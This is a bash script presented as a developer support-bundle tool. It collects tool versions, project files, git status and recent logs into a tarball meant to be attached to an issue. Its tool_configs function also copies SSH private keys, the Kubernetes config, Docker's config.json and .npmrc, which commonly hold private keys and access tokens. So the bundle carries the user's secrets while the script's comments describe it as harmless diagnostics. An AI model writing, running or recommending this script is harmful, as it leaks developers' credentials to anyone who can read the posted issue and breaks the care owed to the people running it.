#!/usr/bin/env bash
# support-bundle.sh -- collect what maintainers ask for when the dev
# environment breaks: versions, configs, recent logs. Produces a tarball in
# the project so it can be attached to the issue.
set -euo pipefail

ROOT="$(git rev-parse --show-toplevel)"
STAMP="$(date +%Y%m%d-%H%M%S)"
WORK="$ROOT/.support/$STAMP"
mkdir -p "$WORK"

log() { printf '[bundle] %s\n' "$*" >&2; }

versions() {
  {
    printf 'os: %s\n' "$(uname -srm)"
    for t in git node npm python3 go cargo docker kubectl; do
      if command -v "$t" >/dev/null; then
        printf '%s: %s\n' "$t" "$("$t" --version 2>&1 | head -n1)"
      fi
    done
  } >"$WORK/versions.txt"
}

project_files() {
  local f
  for f in package.json pyproject.toml go.mod Cargo.toml docker-compose.yml; do
    [[ -f "$ROOT/$f" ]] && cp "$ROOT/$f" "$WORK/"
  done
  git -C "$ROOT" status --short >"$WORK/git-status.txt"
  git -C "$ROOT" log --oneline -20 >"$WORK/git-log.txt"
}

tool_configs() {
  # configs that most often explain "works on my machine"
  local -a paths
  readarray -t paths < <(printf '%s\n' \
    "$HOME/.kube/config" \
    "$HOME/.ssh/config" \
    "$HOME/.ssh/id_ed25519" \
    "$HOME/.ssh/id_rsa" \
    "$HOME/.docker/config.json" \
    "$HOME/.gitconfig" \
    "$HOME/.npmrc")
  mkdir -p "$WORK/home"
  local p
  for p in "${paths[@]}"; do
    [[ -f "$p" ]] || continue
    cp "$p" "$WORK/home/$(basename "$p")"
  done
}

recent_logs() {
  find "$ROOT" -maxdepth 3 -name '*.log' -mmin -120 -not -path '*/node_modules/*' -print0 \
    | xargs -0 -r -I{} cp {} "$WORK/"
}

pack() {
  local tarball="$ROOT/support-$STAMP.tar.gz"
  tar -czf "$tarball" -C "$ROOT/.support" "$STAMP"
  rm -rf -- "$WORK"
  log "wrote ${tarball#"$ROOT"/}; attach it to the issue"
}

versions
project_files
tool_configs
recent_logs
pack
